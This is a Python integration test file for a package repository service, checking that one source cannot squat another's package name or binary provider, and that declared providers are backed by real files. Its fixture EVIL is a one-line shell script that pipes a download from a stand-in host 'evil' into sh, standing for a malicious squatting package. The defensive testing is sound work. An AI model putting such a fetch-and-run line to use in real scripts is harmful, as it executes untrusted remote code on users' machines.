"""Package and provider squatting, vessel's side: a name published in a channel by one
source cannot be taken by another; claimed providers must be backed by files.

Regressions: source ``evil`` published a package named ``victim``; a higher release from
another source took ``binary(vtool)``; vessel signed ``provides`` that no file backed.
"""

from __future__ import annotations

import asyncio
import shutil
from pathlib import Path
from typing import Any

import msgspec

from daemon.package import Index
from daemon.runtime import Health
from daemon.runtime.config import BusSection, StateSection
from daemon.vessel import store
from daemon.vessel.daemon import VesselDaemon, VesselDaemonConfig, VesselSection
from daemon.vessel.importer import ImportOutcome
from daemon.vessel.ownership import StaticOwners
from events import payloads as p
from events.envelope import new_event
from events.sqlite import Database
from events.topology import SUMMIT
from tests.integration.vessel_env import Env, environment, import_pkgs
from tests.support.index import read_index
from tests.unit.vessel.builders import ArtefactServer, Pkg, build_done

VTOOL = b"#!/bin/sh\necho the real vtool\n"
EVIL = b"#!/bin/sh\ncurl evil | sh\n"


def victim(release: int = 1) -> Pkg:
    return Pkg(name="vtool", source="victim", release=release,
               files={"usr/bin/vtool": VTOOL}, modes={"usr/bin/vtool": 0o755},
               provides=["binary(vtool)"])


def evil(name: str = "evil-tools", release: int = 9, *, empty: bool = False) -> Pkg:
    return Pkg(name=name, source="evil", release=release,
               files={} if empty else {"usr/bin/vtool": EVIL},
               modes={"usr/bin/vtool": 0o755}, provides=["binary(vtool)"])


def published(env: Env) -> list[tuple[str, str, int]]:
    index: Index = env.current_index()
    return sorted((p.name, p.source, p.release) for p in index.packages)


def refusal(outcome: ImportOutcome) -> str:
    assert outcome.refused is not None and outcome.published is None
    assert not outcome.refused.retryable
    return outcome.refused.reason


async def test_a_package_name_of_another_source_is_refused(tmp_path: Path) -> None:
    async with environment(tmp_path) as env:
        assert (await import_pkgs(env, [victim()])).published is not None
        squat = Pkg(name="vtool", source="evil", release=9, files={"usr/share/evil": b"x"})
        reason = refusal(await import_pkgs(env, [squat], release=9, task_id=2))
        assert reason == (
            "package vtool is published in volatile/x86_64 by source victim, not evil: a "
            "package name belongs to the source that published it first; rename the package "
            "or remove it from victim")
        assert published(env) == [("vtool", "victim", 1)]
        assert await env.outbox_types() == ["package-published", "publish-failed"]


async def test_a_higher_release_of_another_source_cannot_take_a_provider(
        tmp_path: Path) -> None:
    async with environment(tmp_path) as env:
        assert (await import_pkgs(env, [victim()])).published is not None
        reason = refusal(await import_pkgs(env, [evil()], release=9, task_id=2))
        assert reason == (
            "provider binary(vtool) (of package evil-tools) is already provided in "
            "volatile/x86_64 by package vtool of source victim: a provider belongs to the "
            "source that published it first; drop it from evil-tools or remove it from victim")
        assert published(env) == [("vtool", "victim", 1)]
        # The owner itself goes on publishing its provider.
        assert (await import_pkgs(env, [victim(2)], release=2, task_id=3)).published
        assert published(env) == [("vtool", "victim", 2)]


async def test_an_implicit_name_provider_is_owned_too(tmp_path: Path) -> None:
    # victim's vtool does not list "vtool" or "name(vtool)"; they are its own all the same.
    async with environment(tmp_path, verify_provides=False) as env:
        assert (await import_pkgs(env, [victim()])).published is not None
        for claim in ("name(vtool)", "vtool"):
            squat = Pkg(name="other", source="evil", provides=[claim])
            reason = refusal(await import_pkgs(env, [squat], task_id=2))
            assert reason.startswith(f"provider {claim} (of package other) is already "
                                     "provided in volatile/x86_64 by package vtool of source "
                                     "victim")


async def test_unbacked_provides_are_a_publish_failed(tmp_path: Path) -> None:
    async with environment(tmp_path) as env:
        empty = Pkg(name="vtool", source="evil", provides=["binary(vtool)"])
        reason = refusal(await import_pkgs(env, [empty]))
        assert reason == (
            "artefact vtool-1.0-1-1-x86_64.tar.zst: package vtool declares providers that no "
            "file in it backs: binary(vtool) (needs an executable file or symlink at "
            "usr/bin/vtool)")
        assert await env.outbox_types() == ["publish-failed"]
        rows = await env.db.fetchall("SELECT COUNT(*) FROM vessel_packages")
        assert rows[0][0] == 0


async def test_without_verification_declared_provides_pass_but_owners_still_hold(
        tmp_path: Path) -> None:
    # A farm of noop builders: empty packages declaring what a real build would provide.
    async with environment(tmp_path, verify_provides=False) as env:
        declared = Pkg(name="vtool", source="victim", provides=["binary(vtool)"])
        assert (await import_pkgs(env, [declared])).published is not None
        reason = refusal(await import_pkgs(env, [evil(empty=True)], release=9, task_id=2))
        assert "already provided in volatile/x86_64 by package vtool of source victim" in reason


async def test_a_declared_owner_takes_its_names_back_from_a_squatter(tmp_path: Path) -> None:
    async with environment(tmp_path) as env:  # no table yet: evil got there first
        assert (await import_pkgs(env, [evil(name="vtool")], release=9)).published
    owners = StaticOwners({"vtool": "victim", "binary(vtool)": "victim"})
    async with environment(tmp_path, owners=owners) as env:
        assert (await import_pkgs(env, [victim()], task_id=2)).published is not None
        assert published(env) == [("vtool", "victim", 1)]
        reason = refusal(await import_pkgs(env, [evil(release=10)], release=10, task_id=3))
        assert reason == ("provider binary(vtool) (of package evil-tools) belongs to source "
                          "victim, whose recipe declares it, not to evil")
        assert published(env) == [("vtool", "victim", 1)]


async def test_packages_stored_before_the_provider_table_are_found(tmp_path: Path) -> None:
    # A repository from before the provider table (and before index parts): its migrations
    # fill the provider table from the entries, and its generation is cut into parts.
    async with environment(tmp_path / "donor") as donor:
        assert (await import_pkgs(donor, [victim()])).published is not None
        (row,) = await donor.db.fetchall("SELECT sha256, name, source, release, build_release, "
                                         "size, entry FROM vessel_packages")
    sha = str(row[0])
    old = tmp_path / "vessel"
    async with Database.open(old / "vessel.sqlite", store.MIGRATIONS[:3]) as db, \
            db.transaction() as conn:
        await conn.execute("INSERT INTO vessel_packages VALUES (?, ?, ?, ?, ?, ?, ?)", row)
        await conn.execute(
            "INSERT INTO vessel_generations VALUES ('volatile', 1, 'x86_64', 't', 'old', 1, ?, ?)",
            (msgspec.msgpack.encode([("vtool", "victim", sha)]), bytes.fromhex(sha)))
        await conn.execute("INSERT INTO vessel_heads VALUES ('volatile', 'x86_64', 1)")
    pooled = Path("pool") / sha[:2] / f"{sha}.tar.zst"
    (old / "repo" / pooled).parent.mkdir(parents=True)
    shutil.copyfile(tmp_path / "donor" / "vessel" / "repo" / pooled, old / "repo" / pooled)
    async with environment(tmp_path) as env:
        assert published(env) == [("vtool", "victim", 1)]
        async with env.db.read() as conn:
            offered = await store.offering(conn, ["binary(vtool)", "vtool", "name(vtool)"])
        assert sorted((o.name, o.package, o.source) for o in offered) == [
            ("binary(vtool)", "vtool", "victim"), ("name(vtool)", "vtool", "victim"),
            ("vtool", "vtool", "victim")]
        assert "already provided" in refusal(
            await import_pkgs(env, [evil()], release=9, task_id=2))
        assert (await import_pkgs(env, [victim(2)], release=2, task_id=3)).published
        assert published(env) == [("vtool", "victim", 2)]


async def test_pruned_packages_leave_the_provider_table(tmp_path: Path) -> None:
    async with environment(tmp_path, keep_generations=1) as env:
        for release in (1, 2, 3):
            assert (await import_pkgs(env, [victim(release)], release=release,
                                      task_id=release)).published
        rows = await env.db.fetchall("SELECT COUNT(DISTINCT sha256) FROM vessel_provides")
        kept = await env.db.fetchall("SELECT COUNT(*) FROM vessel_packages")
        assert rows[0][0] == kept[0][0] == 2  # current and one kept generation


async def _accepted(daemon: Any, server: ArtefactServer, pkg: Pkg, packages: list[str],
                    task_id: int) -> None:
    """Summit's build-accepted for ``pkg``'s build, handled by the running vessel service."""
    build = build_done([server.add(pkg)], source=pkg.source, release=pkg.release,
                       task_id=task_id)
    await daemon.service.handle(new_event(p.BuildAccepted(
        task_id=task_id, attempt=1, packages=packages, build=build), source="cairn/summit"))


async def test_vessel_takes_the_owners_from_build_accepted(tmp_path: Path) -> None:
    """Wired end to end in the service: the package names summit accepted for a source are
    that source's, so the real owner takes back a name another source published first; a
    provider stays with whoever published it first, whatever release another source has."""
    config = VesselDaemonConfig(bus=BusSection(url="memory://"),
                                state=StateSection(dir=str(tmp_path)),
                                vessel=VesselSection(listen_host="127.0.0.1", listen_port=0))
    daemon = VesselDaemon(config, Health("vessel"))
    await daemon.start()
    try:
        assert daemon.service is not None
        reports: list[Any] = []

        async def summit_hears(event: Any) -> None:
            reports.append(event.data)
        consumer = await daemon.service.bus.subscribe(SUMMIT, summit_hears)
        index = daemon.service.repo.layout.current("volatile", "x86_64") / "index.json"

        def shown() -> list[tuple[str, str, int]]:
            found = read_index(index)
            return sorted((q.name, q.source, q.release) for q in found.packages)

        async with ArtefactServer().running() as server:
            # Before the real vtool recipe existed, evil's recipe declared vtool.
            await _accepted(daemon, server, evil(name="vtool", release=9), ["vtool"], 1)
            assert shown() == [("vtool", "evil", 9)]
            await _accepted(daemon, server, victim(), ["vtool"], 2)
            assert shown() == [("vtool", "victim", 1)]
            # A higher release of evil's own package cannot take victim's binary(vtool).
            await _accepted(daemon, server, evil(release=10), ["evil-tools"], 3)
            assert shown() == [("vtool", "victim", 1)]
        for _ in range(200):
            if len(reports) == 3:
                break
            await asyncio.sleep(0.05)
        await consumer.cancel(5)
        reasons = [r.reason for r in reports if isinstance(r, p.PublishFailed)]
        assert reasons == [
            "provider binary(vtool) (of package evil-tools) is already provided in "
            "volatile/x86_64 by package vtool of source victim: a provider belongs to the "
            "source that published it first; drop it from evil-tools or remove it from victim"]
    finally:
        await daemon.stop(5)
